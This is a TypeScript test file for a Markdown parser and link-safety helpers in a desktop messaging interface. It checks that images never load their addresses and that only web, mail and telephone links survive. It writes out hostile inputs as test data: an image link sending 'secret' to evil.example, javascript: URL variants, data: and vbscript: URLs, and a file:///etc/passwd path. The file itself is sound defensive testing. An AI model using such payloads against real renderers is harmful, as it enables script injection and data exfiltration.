import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { parseMarkdown, parsePlain } from '../../desktop/renderer/ui/message/markdown.ts'
import { parseAddresses, parseInline } from '../../desktop/renderer/ui/message/markdown-inline.ts'
import { safeAddress, safePage, shortAddress } from '../../desktop/renderer/ui/safe-address.ts'
import { hostileTexts } from '../support/hostile.ts'

const link = (address: string, text = address) => ({ kind: 'link', address, inline: [text] })

/** Every address that a tree leads to, however deep it stands. */
function addressesIn(tree: unknown): string[] {
  if (Array.isArray(tree)) return tree.flatMap(addressesIn)
  if (typeof tree !== 'object' || tree === null) return []
  const own = 'address' in tree ? [String(tree.address)] : []
  return [...own, ...Object.values(tree).flatMap(addressesIn)]
}

describe('within a line', () => {
  test('bold, italic, code and links are read; what is not closed stays as it was written', () => {
    expect(parseInline('a **b** _c_ `d*`')).toEqual([
      'a ',
      { kind: 'strong', inline: ['b'] },
      ' ',
      { kind: 'em', inline: ['c'] },
      ' ',
      { kind: 'code', text: 'd*' },
    ])
    expect(parseInline('2 * 3 ** 4 `open [label](')).toEqual(['2 * 3 ** 4 `open [label]('])
    expect(parseInline('[film](https://a.example/b_(c))')).toEqual([link('https://a.example/b_(c)', 'film')])
    expect(parseInline('snake_case_name')).toEqual(['snake_case_name'])
    expect(parseInline('\\*not\\*')).toEqual(['*not*'])
    expect(parseInline('see [the page](https://shop.example/a "title").')).toEqual([
      'see ',
      link('https://shop.example/a', 'the page'),
      '.',
    ])
  })

  test('a bare address is a link without the sentence’s punctuation', () => {
    const found = ['at ', link('https://shop.example/a', 'https://shop.example/a'), '.']
    expect(parseInline('at https://shop.example/a.')).toEqual(found)
    expect(parseAddresses('at https://shop.example/a.')).toEqual(found)
    expect(parseAddresses('**no** _Markdown_')).toEqual(['**no** _Markdown_'])
  })

  test('a link holds no other link', () => {
    expect(parseInline('[https://a.example](https://b.example)')).toEqual([
      link('https://b.example/', 'https://a.example'),
    ])
  })

  test('[threat 4] a picture is its description, and its address is nowhere', () => {
    expect(parseInline('![a shoe](https://evil.example/?d=secret)')).toEqual([{ kind: 'image', text: 'a shoe' }])
    const linked = { kind: 'link', address: 'https://evil.example/go', inline: [{ kind: 'image', text: 'in' }] }
    expect(parseInline('[![in](https://evil.example/p.png)](https://evil.example/go)')).toEqual([linked])
    expect(parseInline('[![in](https://evil.example/p.png) more')).toEqual([
      '[',
      { kind: 'image', text: 'in' },
      ' more',
    ])
  })
})

describe('blocks', () => {
  test('paragraphs keep their lines, lists their items and numbers', () => {
    expect(parseMarkdown('one\ntwo\n\nthree')).toEqual([
      { kind: 'paragraph', lines: [['one'], ['two']] },
      { kind: 'paragraph', lines: [['three']] },
    ])
    expect(parseMarkdown('3. a\n4. b')).toMatchObject([{ kind: 'list', start: 3, items: [{}, {}] }])
    expect(parseMarkdown('- a\n  - b')).toMatchObject([
      { kind: 'list', start: undefined, items: [{ inline: ['a'], blocks: [{ kind: 'list' }] }] },
    ])
  })

  test('headings, quotations, code and tables', () => {
    expect(parseMarkdown('# A\n> b\n\n```js\nc\n```\n\n| x | y |\n|--|--|\n| 1 | 2 |')).toEqual([
      { kind: 'heading', inline: ['A'] },
      { kind: 'quote', blocks: [{ kind: 'paragraph', lines: [['b']] }] },
      { kind: 'code', text: 'c' },
      { kind: 'table', head: [['x'], ['y']], rows: [[['1'], ['2']]] },
    ])
  })

  test('what a visitor writes is no Markdown', () => {
    expect(parsePlain('# a\n- b\n\n\n[c](https://d.example)')).toMatchObject([
      { kind: 'paragraph', lines: [['# a'], ['- b']] },
      { kind: 'paragraph', lines: [['[c](', { kind: 'link' }, expect.any(String)].filter(Boolean)] },
    ])
  })
})

describe('[threat 3] whatever is written', () => {
  test('links lead to web pages, mail and telephones alone', () => {
    for (const text of hostileTexts)
      for (const address of addressesIn([parseMarkdown(text), parsePlain(text)]))
        expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(new URL(address).protocol)
    const refused = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)']
    for (const address of [
      ...refused,
      'data:text/html,x',
      'vbscript:x',
      'file:///etc/passwd',
      '//evil.example',
      '/x',
      7,
    ])
      expect(safeAddress(address)).toBeUndefined()
    expect(safeAddress('mailto:a@b.example')).toBe('mailto:a@b.example')
    expect(safePage('mailto:a@b.example')).toBeUndefined()
    expect(shortAddress('https://www.shop.example/')).toBe('shop.example')
  })

  test('it is read to its end, in a time that does not explode', () => {
    const bits = [
      '*',
      '**',
      '_',
      '`',
      '[',
      ']',
      '(',
      ')',
      '![',
      '](',
      '> ',
      '- ',
      '1. ',
      '|',
      '--',
      '\n',
      '\\',
      'a ',
      'https://a.b',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...bits), { maxLength: 200 }), (parts) => {
        const tree = parseMarkdown(parts.join(''))
        for (const address of addressesIn(tree)) expect(safeAddress(address)).toBe(address)
      }),
    )
    const started = performance.now()
    for (const bit of bits) parseMarkdown(bit.repeat(Math.floor(39_999 / bit.length)))
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})
